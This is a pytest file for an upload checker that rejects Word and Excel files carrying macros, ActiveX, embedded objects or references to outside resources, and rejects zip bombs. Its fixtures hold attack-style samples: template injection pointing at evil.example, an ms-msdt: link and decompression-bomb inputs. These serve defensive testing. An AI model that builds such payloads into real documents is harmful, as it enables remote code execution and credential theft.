"""A Word or Excel file has nothing that runs, and calls nothing that stands outside it."""

import time
import zipfile
from io import BytesIO

import pytest

from mentorship.core.forms.uploads import problem
from tests.factories import files
from tests.factories.tables import book, with_parts

TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
HEAD = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'


def refers(kind, target="x", mode=' TargetMode="External"', encoding="utf-8", types=TYPES):
    row = f'<Relationship Id="rId1" Type="{types}{kind}" Target="{target}"{mode}/>'
    return f"{HEAD}{row}</Relationships>".replace(' version="1.0"', f' version="1.0" encoding="{encoding}"').encode(
        encoding
    )


ELSEWHERE = {
    "a template": refers("attachedTemplate", "http://evil.example/a.dotm"),
    "a template by another word": refers("attachedTemplate", r"\\evil.example\a.dotm", ' TargetMode=" external "'),
    "a template in two bytes a letter": refers("attachedTemplate", encoding="utf-16"),
    "a template of the strict kind": refers("attachedTemplate", types="http://purl.oclc.org/ooxml/officeDocument/"),
    "a picture": refers("image", "http://evil.example/a.png"),
    "a part of a document": refers("subDocument", "http://evil.example/a.docx"),
    "a page of a frame": refers("frame", "http://evil.example/"),
    "a link to a file": refers("hyperlink", "file://evil.example/share"),
    "a link that does something": refers("hyperlink", "ms-msdt:/id"),
    "an object": refers("oleObject", "http://evil.example/a"),
}
PARTS = {
    "word__embeddings__a_dot_xlsx": "встроенный объект",
    "word__embeddings__oleObject1_dot_bin": "встроенный объект",
    "custom__oleObject1_dot_bin": "встроенный объект",
    "word\\Embeddings\\a_dot_doc": "встроенный объект",
    "word__activeX__activeX1_dot_xml": "ActiveX",
    "word__vbaProject_dot_bin": "макросы",
    "word__vbaData_dot_xml": "макросы",
    "word__run_dot_vbs": "макросы",
}


@pytest.mark.parametrize("name", ELSEWHERE)
def test_a_document_that_calls_something_outside_itself_is_refused(name):
    words = problem(BytesIO(files.word(word___rels__settings_dot_xml_dot_rels=ELSEWHERE[name])), ".docx")

    assert words.startswith("В файле есть ")
    assert "Сохраните документ как PDF" in words


def test_the_template_is_named():
    content = files.word(word___rels__settings_dot_xml_dot_rels=refers("attachedTemplate"))
    assert "ссылка на шаблон вне файла" in problem(BytesIO(content), ".docx")


@pytest.mark.parametrize("part", PARTS)
def test_a_document_that_carries_a_program_or_an_object_is_refused(part):
    words = problem(BytesIO(files.word(**{part: b"x"})), ".docx")

    assert words.startswith("В файле есть ")
    assert PARTS[part] in words


@pytest.mark.parametrize("kind", ["oleObject", "package", "control", "vbaProject", "aFChunk"])
def test_what_a_part_is_says_the_reference_to_it_whatever_its_name(kind):
    content = files.word(word___rels__document_dot_xml_dot_rels=refers(kind, "media/image1.png", mode=""))
    assert problem(BytesIO(content), ".docx").startswith("В файле есть ")


def test_kinds_of_content_tell_a_program_too():
    content = files.word(Content_Types=b'<Override ContentType="application/vnd.ms-office.vbaProject"/>')
    assert "макросы" in problem(BytesIO(content), ".docx")


@pytest.mark.parametrize(
    "target",
    ["https://school.example/", "HTTP://school.example", "mailto:a@b.example", "#p1", "consultantplus://offline/ref=A"],
)
def test_a_plain_link_is_taken(target):
    content = files.word(word___rels__document_dot_xml_dot_rels=refers("hyperlink", target))
    assert problem(BytesIO(content), ".docx") == ""


def test_a_list_with_formulas_of_another_book_is_taken_and_one_with_an_object_is_not():
    """The list is read once, alone, and is not kept."""
    honest = book(["ФИО"], ["Новикова Анна"])
    linked = with_parts(
        honest, xl__externalLinks___rels__a_dot_xml_dot_rels=refers("externalLinkPath", "file:///b.xlsx")
    )
    called = with_parts(honest, xl__worksheets___rels__a_dot_xml_dot_rels=refers("image", "http://evil.example/a.png"))
    carrying = with_parts(honest, xl__embeddings__a_dot_bin=b"x")

    assert problem(BytesIO(linked), ".xlsx") == ""
    assert "Скопируйте список в новую книгу" in problem(BytesIO(called), ".xlsx")
    assert "встроенный объект" in problem(BytesIO(carrying), ".xlsx")


@pytest.mark.parametrize("packing", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_a_way_of_packing_that_office_programs_do_not_know_is_refused(packing):
    output = BytesIO()
    with zipfile.ZipFile(output, "w", packing) as made:
        made.writestr("[Content_Types].xml", b"")
        made.writestr("word/document.xml", b" " * 100_000_000)
    begun = time.process_time()

    assert "повреждён" in problem(output, ".docx")
    assert time.process_time() - begun < 0.5


@pytest.mark.parametrize("part", ["word__a_dot_rels", "Content_Types"])
def test_millions_of_references_are_refused_before_they_are_read(part):
    rows = refers("image", mode="").replace(b"</Rel", b"<Relationship/>" * 4_000_000 + b"</Rel")
    content = files.word(**{part: rows})
    begun = time.process_time()

    assert "слишком большой" in problem(BytesIO(content), ".docx")
    assert time.process_time() - begun < 0.5
